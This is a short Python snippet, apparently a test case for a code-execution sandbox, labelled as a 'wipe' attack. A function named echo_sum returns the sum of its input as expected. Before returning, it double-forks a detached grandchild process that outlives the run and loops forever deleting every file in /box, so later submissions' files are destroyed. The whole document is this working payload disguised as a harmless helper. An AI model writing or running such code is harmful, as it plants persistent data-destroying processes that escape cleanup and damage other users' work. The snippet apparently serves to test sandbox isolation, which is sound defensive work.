# attack: a grandchild outlives the run and waits for the next one's files
# allowed: AC
# layer: wipe
def echo_sum(nums):
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    for name in os.listdir("/box"):
                        os.unlink("/box/" + name)
                except OSError:
                    pass
        os._exit(0)
    return sum(nums)
